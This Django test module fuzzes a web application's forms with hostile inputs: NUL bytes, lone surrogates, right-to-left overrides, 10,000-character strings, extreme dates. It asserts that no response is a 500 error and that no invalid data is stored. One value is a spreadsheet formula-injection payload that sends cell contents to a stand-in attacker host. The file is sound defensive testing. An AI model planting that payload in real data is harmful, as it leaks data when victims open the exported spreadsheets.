"""Hostile values into every field of every form of the URL matrix: no answer is a 500, and nothing lands in
the database that a form would refuse (NUL, a lone surrogate, text over its length, an unknown choice, a bad
e-mail address, a date outside 1900 to 2200).

The forms are found as a user finds them: each GET row of the matrix is opened as a role allowed there and
its POST forms are read from the page (fields, defaults, action); POST rows without a page are posted with
their own sample data. Each form gets:
- one request with NUL in every field and one with a lone surrogate in every field, which the request
  hygiene middleware answers with 400 before any view runs;
- five rotating requests in which every field carries one of the other hostile values at once (field i gets
  value i+k), so every field meets every value and the form's own checks run;
- one request per text field and storable hostile value (a formula behind a right-to-left override, 10,000
  characters; year 1 and year 9999 for date fields) with every other field left as the page filled it, so
  the value can get past the form and reach the service.
The bodies are sent as bytes, as a hostile client sends them (a lone surrogate as UTF-8 bytes ED A0 80).
"""

from datetime import date, datetime
from html.parser import HTMLParser
from urllib.parse import urlencode, urlsplit

import pytest
from django.apps import apps
from django.core.exceptions import ValidationError
from django.core.validators import validate_email
from django.db import models
from django.urls import Resolver404, resolve, reverse

from wegweiser.testing.matrix import collect_cases
from wegweiser.testing.world import ANONYMOUS, build_world

HOSTILE = [
    "a\x00b",
    "a\ud800b",
    "\u202eevil\u202c",
    '=HYPERLINK("http://evil.example/?"&A1,"x")',
    "W" * 10_000,
    "0001-01-01",
    "9999-12-31",
]
# Values a form may accept, one field at a time: text (a formula behind a right-to-left override, and the
# 10,000 characters) for text fields, the calendar's ends for date fields.
STORABLE = {"text": ["\u202e" + HOSTILE[3], HOSTILE[4]], "date": HOSTILE[5:]}
TEXT_INPUTS = {"text", "email", "tel", "number", "search", "url", ""}
DATE_INPUTS = {"date", "datetime-local"}
# Which allowed role opens a page, in this order: the roles that reach most of the district's data first.
ROLE_ORDER = [
    "caseworker",
    "district_admin",
    "municipal_manager",
    "integration_office",
    "course_provider",
    "partner",
    "data_protection_officer",
    ANONYMOUS,
]
NOT_FILLED = {"csrfmiddlewaretoken"}
FIRST_PLAUSIBLE, LAST_PLAUSIBLE = date(1900, 1, 1), date(2200, 12, 31)


class _Forms(HTMLParser):
    """The POST forms of a page: action, fields with the values the page gives them, and which take text."""

    def __init__(self):
        super().__init__()
        self.forms: list[dict] = []
        self._form = None
        self._select = None
        self._textarea = None

    def handle_starttag(self, tag, attrs):
        a = dict(attrs)
        if tag == "form":
            if (a.get("method") or "get").lower() == "post":
                self._form = {"action": a.get("action") or "", "fields": {}, "kinds": {}, "multipart": False}
                self._form["multipart"] = a.get("enctype") == "multipart/form-data"
                self.forms.append(self._form)
            return
        if self._form is None or not a.get("name"):
            return
        name = a["name"]
        fields = self._form["fields"]
        if tag == "input":
            kind = (a.get("type") or "").lower()
            if kind in {"submit", "button", "image", "reset"}:
                return
            if kind == "file":
                self._form["multipart"] = True
                return
            if kind in {"checkbox", "radio"}:
                if "checked" in a:
                    fields.setdefault(name, []).append(a.get("value", "on"))
                else:
                    fields.setdefault(name, [])
                return
            fields.setdefault(name, []).append(a.get("value", ""))
            if kind in TEXT_INPUTS:
                self._form["kinds"][name] = "text"
            elif kind in DATE_INPUTS:
                self._form["kinds"][name] = "date"
        elif tag == "textarea":
            self._textarea = name
            fields.setdefault(name, []).append("")
            self._form["kinds"][name] = "text"
        elif tag == "select":
            self._select = {"name": name, "first": None, "chosen": []}
            fields.setdefault(name, [])
        elif tag == "option" and self._select is not None:
            value = a.get("value", "")
            if self._select["first"] is None:
                self._select["first"] = value
            if "selected" in a:
                self._select["chosen"].append(value)

    def handle_data(self, data):
        if self._textarea and self._form is not None:
            self._form["fields"][self._textarea][-1] += data

    def handle_endtag(self, tag):
        if tag == "form":
            self._form = None
        elif tag == "textarea":
            self._textarea = None
        elif tag == "select" and self._select is not None and self._form is not None:
            chosen = self._select["chosen"] or ([self._select["first"]] if self._select["first"] else [])
            self._form["fields"][self._select["name"]] = chosen
            self._select = None


def _body(fields: dict[str, list[str]]) -> bytes:
    pairs = [(name, value.encode("utf-8", "surrogatepass")) for name, values in fields.items() for value in values]
    return urlencode(pairs).encode("ascii")


def _who(case) -> str:
    return next(role for role in ROLE_ORDER if role in case.allowed)


def _targets(client, world, case, url) -> list[tuple[str, dict[str, list[str]], dict[str, str]]]:
    """(action URL, fields as the page fills them, "text" or "date" by field) for each form to attack."""
    if case.method == "POST":
        data = case.data(world) if case.data else {}
        fields = {name: [str(value)] for name, value in data.items() if not hasattr(value, "read")}
        return [(url, fields, dict.fromkeys(fields, "text"))]
    response = client.get(url)
    if response.status_code != 200 or "html" not in response.get("Content-Type", ""):
        return []
    parser = _Forms()
    parser.feed(response.content.decode())
    targets = []
    for form in parser.forms:
        action = urlsplit(form["action"] or url)
        path = action.path or urlsplit(url).path
        try:
            resolve(path)
        except Resolver404:
            continue
        if path.startswith(reverse("accounts:logout")):
            continue
        fields = {name: values for name, values in form["fields"].items() if name not in NOT_FILLED}
        if fields:
            target = f"{path}?{action.query}" if action.query else path
            kinds = {name: kind for name, kind in form["kinds"].items() if name not in NOT_FILLED}
            targets.append((target, fields, kinds))
    return targets


def _post(client, url, fields):
    return client.generic("POST", url, _body(fields), content_type="application/x-www-form-urlencoded")


def _stored_that_a_form_refuses() -> list[str]:
    found = []
    for model in apps.get_models():
        if not model.__module__.startswith("wegweiser."):
            continue
        checked = [
            field
            for field in model._meta.concrete_fields
            if isinstance(field, models.CharField | models.TextField | models.DateField)
        ]
        if not checked:
            continue
        for row in model._base_manager.values("pk", *[field.attname for field in checked]):
            for field in checked:
                value = row[field.attname]
                where = f"{model._meta.label}#{row['pk']}.{field.name}"
                if isinstance(value, str):
                    found.extend(_text_problems(field, value, where))
                elif isinstance(value, date | datetime):
                    day = value.date() if isinstance(value, datetime) else value
                    if not FIRST_PLAUSIBLE <= day <= LAST_PLAUSIBLE:
                        found.append(f"{where}: {day.isoformat()}")
    return found


def _text_problems(field, value: str, where: str) -> list[str]:
    problems = []
    if "\x00" in value:
        problems.append(f"{where}: NUL")
    try:
        value.encode("utf-8")
    except UnicodeEncodeError:
        problems.append(f"{where}: lone surrogate")
    if isinstance(field, models.CharField) and field.max_length and len(value) > field.max_length:
        problems.append(f"{where}: {len(value)} characters over {field.max_length}")
    if field.choices and value and value not in {str(key) for key, _label in field.flatchoices}:
        problems.append(f"{where}: unknown choice {value[:20]!r}")
    if isinstance(field, models.EmailField) and value:
        try:
            validate_email(value)
        except ValidationError:
            problems.append(f"{where}: not an e-mail address")
    return problems


FORM_CASES = [case for case in collect_cases() if case.label != "foreign" and not case.query and case.allowed]


@pytest.mark.parametrize("case", FORM_CASES, ids=[case.id for case in FORM_CASES])
def test_hostile_values_in_every_field_answer_no_500_and_store_nothing_a_form_refuses(client, db, case):
    world = build_world()
    url = reverse(case.name, kwargs=case.kwargs(world) if case.kwargs else None)
    who = _who(case)
    if who != ANONYMOUS:
        client.force_login(world.user(who))
    if url.startswith("/api/"):
        pytest.skip("the API is attacked by schemathesis (api/tests/test_schemathesis.py)")
    targets = _targets(client, world, case, url)
    if not targets:
        pytest.skip("no form to post")
    answers = []
    for target, fields, kinds in targets:
        names = list(fields)
        for refused in HOSTILE[:2] if names else []:
            response = _post(client, target, {name: [refused] for name in names})
            assert response.status_code == 400, (target, repr(refused), response.status_code)
        rotating = HOSTILE[2:]
        for turn in range(len(rotating)):
            hostile = {name: [rotating[(index + turn) % len(rotating)]] for index, name in enumerate(names)}
            answers.append((target, "all fields", _post(client, target, hostile).status_code))
        for name, kind in sorted(kinds.items()):
            for value in STORABLE[kind]:
                response = _post(client, target, {**fields, name: [value]})
                answers.append((target, name, response.status_code))
        if who != ANONYMOUS:
            client.force_login(world.user(who))  # a form may have logged the user out or changed the session

    server_errors = [answer for answer in answers if answer[2] >= 500]
    assert not server_errors, server_errors
    assert not _stored_that_a_form_refuses()
